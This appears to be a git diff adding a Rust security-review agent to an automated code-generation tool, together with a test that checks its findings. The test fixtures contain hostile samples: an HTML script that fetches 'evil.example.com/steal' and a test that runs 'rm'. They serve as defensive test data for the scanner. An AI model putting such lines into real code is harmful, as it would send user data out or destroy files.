@@ -0,0 +1,157 @@
+use crate::helpers::command_line::PrintCommand;
+use crate::helpers::general::{read_generated_files, GeneratedSource};
+use crate::helpers::run_log::RunLog;
+use crate::helpers::security_review::{findings_summary, has_high_severity, review_files, Finding};
+use crate::models::agent_basic::basic_agent::{AgentState, BasicAgent};
+use crate::models::agent_basic::basic_traits::BasicTraits;
+use crate::models::agents::agent_traits::{FactSheet, SpecialFunctions};
+use crate::models::general::config::Config;
+use crate::models::general::error::AutoGippityError;
+
+use async_trait::async_trait;
+
+#[derive(Debug)]
+pub struct AgentSecurityReviewer {
+  attributes: BasicAgent,
+  config: Config,
+  run_log: RunLog,
+}
+
+impl AgentSecurityReviewer {
+  pub const POSITION: &'static str = "Security Reviewer";
+
+  pub fn new(config: Config, run_log: RunLog) -> Self {
+    let attributes: BasicAgent = BasicAgent::new(
+      "Reviews every generated file for dangerous patterns".to_string(),
+      Self::POSITION.to_string(),
+    );
+
+    Self {
+      attributes,
+      config,
+      run_log,
+    }
+  }
+}
+
+#[async_trait]
+impl SpecialFunctions for AgentSecurityReviewer {
+  fn get_attributes_from_agent(&self) -> &BasicAgent {
+    &self.attributes
+  }
+
+  fn get_attributes_mut_from_agent(&mut self) -> &mut BasicAgent {
+    &mut self.attributes
+  }
+
+  // the same static checks as every approval, on every file the run ends with
+  async fn step(&mut self, factsheet: &mut FactSheet) -> Result<(), AutoGippityError> {
+    if factsheet.backend_code.is_none() {
+      PrintCommand::Issue.print_agent_message(
+        self.attributes.position.as_str(),
+        "No backend code on the factsheet, skipping the security review",
+      );
+      self.attributes.state = AgentState::Finished;
+      return Ok(());
+    }
+
+    let files: Vec<GeneratedSource> = read_generated_files(&self.config.workspace)?;
+    let reviewed_msg: String = format!(
+      "Reviewing {}",
+      files
+        .iter()
+        .map(|file| file.path.display().to_string())
+        .collect::<Vec<String>>()
+        .join(", ")
+    );
+    PrintCommand::AICall.print_agent_message(self.attributes.position.as_str(), reviewed_msg.as_str());
+
+    let external_urls: &[String] = factsheet.external_urls.as_deref().unwrap_or_default();
+    let findings: Vec<Finding> = review_files(&files, external_urls);
+    self
+      .run_log
+      .record(&self.attributes.position, "security_review", &findings)?;
+
+    let print_command: PrintCommand = if findings.is_empty() {
+      PrintCommand::UnitTest
+    } else {
+      PrintCommand::Issue
+    };
+    print_command.print_agent_message(
+      self.attributes.position.as_str(),
+      findings_summary(&findings).as_str(),
+    );
+
+    let blocked: bool = self.config.approval.block_high_severity && has_high_severity(&findings);
+    factsheet.security_findings = Some(findings);
+    // a blocked review stays unfinished, so resume reviews the code again
+    if blocked {
+      return Err(AutoGippityError::UserAbort(
+        "security review found high severity issues in the generated code".to_string(),
+      ));
+    }
+    self.attributes.state = AgentState::Finished;
+    Ok(())
+  }
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+  use crate::helpers::test_support::{factsheet, TempDir};
+  use std::fs;
+
+  fn weather_factsheet(backend_code: &str) -> FactSheet {
+    FactSheet {
+      external_urls: Some(vec!["https://api.weather.com/v1".to_string()]),
+      backend_code: Some(backend_code.to_string()),
+      ..factsheet("build a website that shows the weather")
+    }
+  }
+
+  #[tokio::test]
+  async fn test_reviews_every_generated_file() {
+    let temp: TempDir = TempDir::new("security_reviewer");
+    let code: &str = "fn main() {\n  let _ = reqwest::get(\"https://api.weather.com/v1/today\");\n  unsafe { run() };\n}\n";
+    fs::create_dir_all(temp.join("src")).unwrap();
+    fs::create_dir_all(temp.join("static")).unwrap();
+    fs::write(temp.join("src/main.rs"), code).unwrap();
+    fs::write(
+      temp.join("src/qa_tests.rs"),
+      "#[test]\nfn wipe() {\n  std::process::Command::new(\"rm\").status().unwrap();\n}\n",
+    )
+    .unwrap();
+    fs::write(
+      temp.join("static/index.html"),
+      "<script>\n  fetch(\"https://evil.example.com/steal\");\n</script>\n",
+    )
+    .unwrap();
+
+    let mut config: Config = Config::default();
+    config.workspace.project_dir = temp.path().to_path_buf();
+    let mut agent: AgentSecurityReviewer = AgentSecurityReviewer::new(config.clone(), RunLog::default());
+    let mut factsheet: FactSheet = weather_factsheet(code);
+
+    agent.execute(&mut factsheet).await.unwrap();
+    assert_eq!(agent.attributes.state, AgentState::Finished);
+    let findings: &Vec<Finding> = factsheet.security_findings.as_ref().unwrap();
+    let locations: Vec<(&str, String)> =
+      findings.iter().map(|finding| (finding.check.as_str(), finding.location())).collect();
+    assert_eq!(
+      locations,
+      vec![
+        ("unsafe", "src/main.rs:3".to_string()),
+        ("process", "src/qa_tests.rs:3".to_string()),
+        ("network", "static/index.html:2".to_string()),
+      ]
+    );
+
+    // blocking turns the same findings into an abort
+    config.approval.block_high_severity = true;
+    let mut agent: AgentSecurityReviewer = AgentSecurityReviewer::new(config, RunLog::default());
+    assert!(matches!(
+      agent.execute(&mut factsheet).await,
+      Err(AutoGippityError::UserAbort(_))
+    ));
+  }
+}